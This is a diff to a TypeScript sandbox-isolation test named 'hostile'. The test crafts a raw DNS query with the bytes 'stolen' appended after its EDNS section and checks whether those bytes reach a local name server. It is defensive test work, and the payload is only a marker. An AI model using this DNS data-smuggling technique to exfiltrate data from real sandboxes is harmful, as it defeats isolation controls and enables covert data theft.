@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 import type { Attack } from "../harness/attack.ts";
-import { hostileNameServer, nameRefusals, resolvers } from "../harness/name-server.ts";
+import { nameRefusals, overhearing, resolvers } from "../harness/name-server.ts";
 
 export const hostile: Attack = {
   claim: "What a program puts behind its question stays in the cell",
@@ -9,17 +9,10 @@ export const hostile: Attack = {
   resolvers,
   startRefusals: ["ERR_NOT_ENFORCEABLE"],
   refusals: nameRefusals,
-  prepare: async (site) => {
-    const server = await hostileNameServer(site, ({ name }) => [
-      { name, type: "A", data: "93.184.216.34", ttl: 0 },
-    ]);
-    const { questions } = server;
-    return {
-      ...server,
-      harmed: () =>
-        questions.some(({ message }) => message.includes("stolen")) ? "hidden bytes came out" : undefined,
-    };
-  },
+  prepare: (site) =>
+    overhearing(site, (questions) =>
+      questions.some(({ message }) => message.includes("stolen")) ? "hidden bytes came out" : undefined,
+    ),
   program: async (cell) => {
     const name = Buffer.from("\x03api\x04good\x04test\x00");
     const header = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1]);
@@ -32,10 +25,7 @@ export const hostile: Attack = {
       extension,
       Buffer.from("stolen"),
     ]);
-    const socket = cell.node("node:dgram").createSocket("udp4");
-    const [host = "", port = "53"] = cell.text("server").split(":");
-    socket.send(message, Number(port), host === "" ? "127.0.0.1" : host);
-    await cell.event(socket, "message");
+    await cell.ask(message);
     return cell.refused("NO_EFFECT");
   },
 };
